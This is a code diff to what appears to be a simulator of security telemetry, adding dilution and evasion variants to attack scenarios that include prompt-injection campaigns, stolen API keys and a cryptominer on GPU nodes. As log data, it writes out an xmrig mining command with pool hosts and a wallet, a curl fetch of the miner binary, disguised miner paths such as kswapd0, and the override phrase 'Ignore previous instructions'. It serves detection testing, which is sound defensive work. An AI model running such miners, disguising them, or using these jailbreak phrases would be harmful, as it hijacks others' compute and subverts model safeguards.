@@ -21,6 +21,7 @@ from typing import Any, TypeVar
 
 from schemas import entities as ent
 from streams.simulator import formats as F
+from streams.simulator.variation import Variation
 from streams.simulator.world import (
     ACCOUNT_ID,
     ARTIFACT_BUCKET,
@@ -72,7 +73,12 @@ class Ctx:
     total: int  # records in the whole run
     rate: float  # records per second, all sources
     used: set[str] = field(default_factory=set)
-    vary: bool = False  # other organisations: attacks may be diluted in a busy key's usual traffic
+    vary: bool = False  # other organisations: attacks may be diluted, miners renamed (see ``variation``)
+    variation: Variation = field(default_factory=Variation.familiar)
+
+    def diluted(self) -> bool:
+        """Whether this attack hides in its target's usual traffic (never in the familiar world: no draw)."""
+        return self.variation.dilution > 0 and self.rng.random() < self.variation.dilution
 
     # --- rates and time
     def key_rate(self, key: ApiKey) -> float:
@@ -87,7 +93,7 @@ class Ctx:
 
     def burst(self, per_s: float, lo: int, cap: float = 0.02, prefer_s: float = 0.2) -> list[int]:
         """``n`` times at ``per_s`` per second (at least ``lo`` records, at most ``cap`` of all)."""
-        per_s = max(per_s, 0.05)
+        per_s = max(per_s * self.variation.intensity, 0.05)
         span_s = min(prefer_s * self.duration_ms / 1000, 300.0)
         n = max(lo, min(max(lo, int(cap * self.total)), round(per_s * span_s)))
         length = min(n / per_s * 1000, 0.35 * self.duration_ms)
@@ -99,8 +105,8 @@ class Ctx:
 
     def sequence(self, gaps_s: list[float]) -> list[int]:
         """Times of a chain of actions ``gaps_s`` seconds apart (squeezed to fit short runs)."""
-        total = sum(gaps_s) * 1000
-        scale = min(1.0, 0.5 * self.duration_ms / total) if total else 1.0
+        total, spread = sum(gaps_s) * 1000, self.variation.spread
+        scale = spread * min(1.0, 0.5 * self.duration_ms / (total * spread)) if total else 1.0
         t = self.window(total * scale)
         out = []
         for gap in gaps_s:
@@ -197,7 +203,7 @@ _EXTRACTION = (
 
 def model_extraction(ctx: Ctx) -> Plan:
     rng = ctx.rng
-    diluted = ctx.vary and rng.random() < 0.5  # a busy key keeps its traffic; the sweep runs at about its rate
+    diluted = ctx.diluted()  # a busy key keeps its traffic; the sweep runs at about its rate
     k = ctx.take_key(top=0.1 if diluted else 0.25)
     mult = rng.uniform(0.5, 1.5) if diluted else rng.uniform(20, 50)
     times = ctx.burst(ctx.key_rate(k) * mult, lo=40, cap=0.02)
@@ -312,7 +318,8 @@ def prompt_injection(ctx: Ctx) -> Plan:
     ctx.used.update(k.key_id for k in keys)
     ctx.use_person(user)
     normal = sum(ctx.key_rate(k) for k in keys)
-    times = ctx.burst(normal * rng.uniform(3, 6), lo=20, cap=0.01)
+    diluted = ctx.diluted()  # the campaign at about the user's usual rate, their usual prompts around it
+    times = ctx.burst(normal * (rng.uniform(0.7, 1.5) if diluted else rng.uniform(3, 6)), lo=20, cap=0.01)
     steps: list[Step] = []
     ids: list[str] = []
     used: set[str] = set()
@@ -336,7 +343,8 @@ def prompt_injection(ctx: Ctx) -> Plan:
     return Plan(
         "prompt_injection",
         f"{user} ran a jailbreak / prompt-injection campaign of {len(times)} prompts through "
-        f"{len(used)} API key(s) ('Ignore previous instructions', DAN, system-prompt extraction)",
+        f"{len(used)} API key(s) ('Ignore previous instructions', DAN, system-prompt extraction)"
+        + (", diluted in the user's usual traffic" if diluted else ""),
         ["AML.T0051.000", "AML.T0054", "AML.T0056"],
         [],
         uniq(ids),
@@ -973,6 +981,7 @@ _POOLS = (
     ("gulf.moneroocean.stream", "203.0.113.201", 5555),
 )
 _MINER = "/tmp/.X11-unix/xmrig"  # noqa: S108 - the path the miner hides at, not a file we write
+_HIDDEN_MINERS = ("/dev/shm/.x/kswapd0", "/var/tmp/.cache/kworker", "/tmp/.ICE-unix/systemd-journal")  # noqa: S108
 _WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
 
 
@@ -981,15 +990,19 @@ def cryptominer(ctx: Ctx) -> Plan:
     w = ctx.take_workload(("jupyter", "ray-worker", "ollama", "llama-cpp", "vllm"), ("ml-staging",))
     pools = rng.sample(_POOLS, rng.choice((1, 2)))
     host, _, port = pools[0]
-    miner = F.proc(
-        "xmrig",
-        f"{_MINER} -o stratum+tcp://{host}:{port} -u {_WALLET} -p {w.node} --cuda --donate-level 1 -B",
-        "sh",
-        _MINER,
-        w.process[3],
-    )
+    # other organisations: half the miners hide their name and the stratum URL (flags and Falco's
+    # drop-and-execute rule still show)
+    hidden = ctx.vary and rng.random() < 0.5
+    path = rng.choice(_HIDDEN_MINERS) if hidden else _MINER
+    if hidden:
+        cmdline = f"{path} -o {host}:{port} -u {_WALLET} -p x -a rx/0 --donate-level 1 --cuda -B"
+        first_rule = "Drop and execute new binary in container"
+    else:
+        cmdline = f"{_MINER} -o stratum+tcp://{host}:{port} -u {_WALLET} -p {w.node} --cuda --donate-level 1 -B"
+        first_rule = "Detect crypto miners using the Stratum protocol"
+    miner = F.proc(path.rsplit("/", 1)[-1], cmdline, "sh", path, w.process[3])
     fetch = F.proc(
-        "curl", f"curl -fsSL -o {_MINER} https://{pools[0][1]}/x", "sh", "/usr/bin/curl", w.process[3]
+        "curl", f"curl -fsSL -o {path} https://{pools[0][1]}/x", "sh", "/usr/bin/curl", w.process[3]
     )
     reconnects = rng.randint(2, 5)
     gaps = [rng.uniform(1, 3), rng.uniform(1, 4), 0.02]
@@ -1002,13 +1015,7 @@ def cryptominer(ctx: Ctx) -> Plan:
         (
             times[2],
             "falco",
-            partial(
-                w_falco,
-                w=w,
-                rule="Detect crypto miners using the Stratum protocol",
-                process=miner,
-                evt_type="execve",
-            ),
+            partial(w_falco, w=w, rule=first_rule, process=miner, evt_type="execve"),
         ),
     ]
     i = 3
@@ -1048,7 +1055,8 @@ def cryptominer(ctx: Ctx) -> Plan:
     used = [p for n, p in enumerate(pools) if n < reconnects]
     return Plan(
         "cryptominer",
-        f"xmrig on GPU node {w.node} in {w.namespace}/{w.pod} mining to "
+        f"{'a renamed miner (' + path + ', no stratum URL)' if hidden else 'xmrig'} on GPU node {w.node} in "
+        f"{w.namespace}/{w.pod} mining to "
         f"{', '.join(f'{h}:{p}' for h, _, p in used)}",
         [],
         ["T1496"],
@@ -1074,7 +1082,8 @@ def stolen_api_key(ctx: Ctx) -> Plan:
     k = ctx.take_key(top=0.3)
     ip = doc_ip(rng)
     ua = rng.choice(_STOLEN_UAS)
-    mult = rng.uniform(8, 15)
+    diluted = ctx.diluted()  # the thief stays near the key's usual volume; only where it comes from differs
+    mult = rng.uniform(1, 3) if diluted else rng.uniform(8, 15)
     times = ctx.burst(ctx.key_rate(k) * mult, lo=30, cap=0.015)
     steps: list[Step] = []
     for t in times:
@@ -1092,7 +1101,8 @@ def stolen_api_key(ctx: Ctx) -> Plan:
     return Plan(
         "stolen_api_key",
         f"API key {k.key_id} of {k.user}, normally used from {k.client_ip} by {k.user_agent!r}, "
-        f"was used from {ip} by {ua!r} at ~{mult:.0f}x its normal volume",
+        f"was used from {ip} by {ua!r} at ~{mult:.0f}x its normal volume"
+        + (", diluted in the key's usual traffic" if diluted else ""),
         ["AML.T0012"],
         ["T1078", "T1552"],
         uniq(key_entities(k, ip)),
@@ -1245,7 +1255,7 @@ _FILLER = (
 def cost_harvesting(ctx: Ctx) -> Plan:
     rng = ctx.rng
     # diluted: a busy key keeps its traffic and adds long completions under every per-request guard
-    diluted = ctx.vary and rng.random() < 0.5
+    diluted = ctx.diluted()
     k = ctx.take_key(top=0.1 if diluted else 0.5)
     mult = rng.uniform(0.3, 1.0) if diluted else rng.uniform(2, 5)
     times = ctx.burst(ctx.key_rate(k) * mult, lo=20, cap=0.01)
@@ -1279,6 +1289,14 @@ def cost_harvesting(ctx: Ctx) -> Plan:
         uniq(key_entities(k)),
         steps,
     )
+
+
+def falco_names() -> dict[str, str]:
+    """IP -> host name as Falco's DNS cache would name it (``fd.sip.name``): public AI and service
+    endpoints, and the mining pools."""
+    names = {ip: host for host, ips in EXTERNAL_HOSTS.items() for ip in ips}
+    names.update((ip, host) for host, ip, _ in _POOLS)
+    return names
 
 
 SCENARIOS: dict[str, Callable[[Ctx], Plan]] = {
